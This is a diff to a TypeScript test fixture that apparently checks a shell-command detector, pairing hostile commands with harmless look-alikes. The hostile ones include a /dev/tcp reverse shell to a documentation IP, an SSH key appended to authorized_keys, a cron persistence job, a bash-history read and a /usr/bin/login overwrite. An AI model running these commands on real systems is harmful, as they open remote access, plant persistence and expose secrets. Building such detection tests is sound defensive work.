@@ -8,7 +8,7 @@ export const commandCases: Record<string, readonly [string, string]> = {
   'made-executable': ['chmod 777 bins.sh', 'chmod 644 notes.txt'],
   'run-from-scratch-folder': ['/tmp/.x1 &', 'ls /tmp'],
   'botnet-check': ['/bin/busybox MIRAI', '/bin/busybox ls'],
-  'hex-echo': ["echo -ne '\\x7f\\x45\\x4c\\x46' > .s", 'echo hello'],
+  'hex-echo': ["echo -ne '\\x7f\\x45\\x4c\\x46' > .s", "echo -e '\\x67\\x61'"],
   'reverse-shell': ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'ls /dev/tty'],
   'authorized-key': ['echo ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA >> ~/.ssh/authorized_keys', 'ls ~/.ssh'],
   'scheduled-job': ['echo "* * * * * /tmp/x" | crontab', 'crontab -l'],
@@ -34,6 +34,15 @@ export const commandCases: Record<string, readonly [string, string]> = {
   'machine-changed': ['userdel mara', 'id mara'],
   'listens-in': ['tcpdump -i eth0', 'ip link'],
   'machine-controls': ['shutdown -h now', 'uptime'],
+  'history-read': ['cat ~/.bash_history', 'ls ~'],
+  'script-with-socket': ["python3 -c 'import socket,pty; x()'", 'python3 -c "print(1)"'],
+  'piped-to-shell': ['cat install | bash', 'cat install | wc -l'],
+  'memory-written': ['dd if=patch of=/proc/71/mem', 'dd if=a of=b'],
+  hypervisor: ['esxcli vm process list', 'vmstat 1'],
+  'secret-scanner': ['trufflehog filesystem /srv', 'truncate -s 0 a'],
+  'program-installed': ['apt-get install -y masqan', 'apt-get update'],
+  'program-replaced': ['cat x > /usr/bin/login', 'cat x > /srv/login'],
+  'files-served': ['python3 -m http.server 8000', 'python3 -m json.tool'],
 };
 
 interface TextCase {
